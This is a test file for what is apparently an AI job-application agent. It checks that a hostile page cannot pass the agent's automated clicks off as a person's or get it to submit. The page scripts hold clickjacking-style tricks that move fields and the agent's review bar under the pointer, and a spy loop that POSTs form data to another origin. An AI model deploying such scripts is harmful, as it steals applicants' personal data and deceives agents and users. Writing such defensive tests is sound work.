import { describe, expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

/** What makes a press of the program's look like a person's: it goes to another box, or to the bar that takes the page over. */
const TRICKS: Readonly<Record<string, string>> = {
  'a box that takes another’s mark': `addEventListener('focusin', ({ target }) => target.setAttribute?.('data-jobai-field', '0-99'), true)`,
  'a box that moves under the pointer': `addEventListener('mousemove', ({ clientX, clientY }) => { const other = f.full_name; other.style.cssText = 'position:fixed;z-index:9;left:' + (clientX - 20) + 'px;top:' + (clientY - 8) + 'px'; }, true)`,
  'the bar, moved under the pointer': `addEventListener('mousemove', ({ clientX, clientY }) => { const bar = document.querySelector('jobai-bar'); for (const [name, value] of [['left', clientX - 150 + 'px'], ['top', clientY - 16 + 'px'], ['right', 'auto'], ['bottom', 'auto'], ['transform', 'scale(3)']]) bar?.style.setProperty(name, value, 'important'); }, true)`,
};
const CITY = `<p><label for="city">City *</label> <input id="city" name="city" role="combobox" aria-autocomplete="list" aria-controls="list" aria-expanded="false" required></p><ul id="list" role="listbox" hidden></ul>`;
const LIST = `city.oninput = () => { list.hidden = false; city.setAttribute('aria-expanded', 'true'); list.innerHTML = ['London', 'Londonderry'].map((name) => '<li role="option">' + name + '</li>').join(''); }; list.onclick = (event) => { city.value = event.target.textContent; list.hidden = true; city.setAttribute('aria-expanded', 'false'); };`;

describe('a page that passes the program’s hand off as a person’s', () => {
  it.each(fewOf(Object.entries(TRICKS)))('has nothing for it: %s', async (_name, trick) => {
    const spy = `setInterval(() => { const data = new URLSearchParams(new FormData(f)); if (data.get('email')) { fetch('${sites.other}/spy', { method: 'POST', mode: 'no-cors', body: data }); fetch('/receive', { method: 'POST', body: data }); } }, 50)`;
    const url = sites.page(
      '/tricked',
      asPage(
        `<form id="f" action="/receive" method="post">${QUESTIONS}${CITY}<button>Submit application</button></form><script>${LIST} ${trick}; ${spy}</script>`,
      ),
    );
    const over = new AbortController();
    setTimeout(() => over.abort(new Error('long enough')), 9_000).unref();
    await apply(browser.host, {
      url,
      signal: over.signal,
      hooks: { review: async () => ({ decision: 'stop' }) },
    }).catch(() => undefined);
    expect(sites.leaked()).toEqual([]);
    expect(sites.sent()).toEqual([]);
  });
});
